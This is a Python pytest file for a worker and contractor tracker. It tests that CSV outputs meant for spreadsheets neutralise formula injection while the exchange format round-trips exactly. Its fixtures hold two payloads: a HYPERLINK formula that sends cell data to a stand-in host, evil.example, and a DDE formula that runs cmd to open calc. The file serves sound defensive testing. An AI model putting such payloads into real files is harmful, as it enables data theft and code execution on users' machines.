"""No CSV file a person opens in a spreadsheet carries a live formula
(OWASP CSV injection), while the exchange format still round-trips exactly."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from test_cli import SMALL, lmt, write_batch

from tracker.spreadsheet import TRIGGERS, neutralise, restore

EVIL_CONTRACTOR = '=HYPERLINK("http://evil.example/?x="&A1,"pay")'
EVIL_WORKER = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def live_formulas(path: Path) -> list[str]:
    """Cells a spreadsheet would run: a trigger first, and not a plain number."""

    def number(text: str) -> bool:
        try:
            float(text)
        except ValueError:
            return False
        return True

    return [c for c in cells(path) if c.startswith(TRIGGERS) and not number(c)]


@pytest.mark.parametrize(
    "value",
    [
        "",
        "plain",
        "=1+1",
        "+91 98",
        "-x",
        "@a",
        "\tx",
        "\rx",
        "'=x",
        "''+y",
        "'plain",
        "'",
        "=",
        "''",
    ],
)
def test_neutralise_is_reversed_exactly_by_restore(value):
    safe = neutralise(value)
    assert not safe.startswith(TRIGGERS)
    assert restore(safe) == value


def evil_batch(folder: Path) -> Path:
    files = dict(SMALL)
    files["contractors.csv"] = (
        "contractor_id,name,base_district_code\n"
        f'C1,"{EVIL_CONTRACTOR.replace(chr(34), chr(34) * 2)}",348\nC2,Munshi,\n'
    )
    files["workers.csv"] = (
        "worker_id,household_id,name,gender,birth_year,registered_at,registered_on\n"
        "W1,H1,Sunita Kumari,female,1990,SRC-1,2020-01-05\n"
        "W2,H1,Mohd Imran,male,1988,,\n"
        f"W3,H1,{EVIL_WORKER},female,not-a-year,,\n"  # rejected: birth_year
    )
    return write_batch(folder, files)


@pytest.fixture(scope="module")
def evil(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("evil")
    batch = evil_batch(folder / "batch")
    db = folder / "db"
    done = lmt("ingest", batch, "--db", db, "--rejects", folder / "rejects")
    assert done.returncode == 2, done.stderr  # W3 rejected
    return {"folder": folder, "db": db, "rejects": folder / "rejects"}


def test_analytics_csvs_for_people_carry_no_live_formula(evil):
    folder, db = evil["folder"], evil["db"]
    risk, chains = folder / "contractor_risk.csv", folder / "chains.csv"
    assert lmt("contractors", "--db", db, "--out", risk).returncode == 0
    assert lmt("chains", "--db", db, "--out", chains).returncode == 0
    circuits = folder / "circuits.csv"
    assert lmt("circuits", "--db", db, "--out", circuits).returncode == 0
    for path in (risk, chains, circuits):
        assert live_formulas(path) == [], path.name
    assert "'" + EVIL_CONTRACTOR in cells(risk)


def test_rejects_carry_no_live_formula_and_a_fixed_rejects_file_imports_exactly(evil):
    rejects = evil["rejects"]
    for path in rejects.glob("*.csv"):
        assert live_formulas(path) == [], path.name
    assert "'" + EVIL_WORKER in cells(rejects / "workers.csv")
    # the field team fixes the birth year and imports the rejects file as it is
    fixed = rejects / "workers.csv"
    text = fixed.read_text(encoding="utf-8").replace("not-a-year", "1991")
    again = evil["folder"] / "again"
    again.mkdir()
    (again / "workers.csv").write_text(text, encoding="utf-8")
    done = lmt("ingest", again, "--db", evil["db"], "--rejects", evil["folder"] / "r2")
    assert done.returncode == 0, done.stdout + done.stderr
    out = evil["folder"] / "export"
    assert lmt("export", out, "--db", evil["db"]).returncode == 0
    # the exchange format is not neutralised: the name comes back exactly as the field sent it
    with open(out / "workers.csv", newline="", encoding="utf-8") as handle:
        names = {row["worker_id"]: row["name"] for row in csv.DictReader(handle)}
    assert names["W3"] == EVIL_WORKER
    with open(out / "contractors.csv", newline="", encoding="utf-8") as handle:
        names = {row["contractor_id"]: row["name"] for row in csv.DictReader(handle)}
    assert names["C1"] == EVIL_CONTRACTOR
